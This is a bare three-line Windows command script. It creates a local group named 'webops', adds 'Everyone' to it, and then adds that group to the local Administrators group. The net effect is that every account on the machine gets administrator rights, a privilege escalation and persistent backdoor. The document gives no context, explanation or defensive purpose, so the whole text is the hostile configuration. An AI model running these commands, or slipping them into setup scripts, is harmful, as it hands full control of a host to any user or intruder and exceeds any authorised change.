net localgroup webops /add
net localgroup webops Everyone /add
net localgroup Administrators webops /add
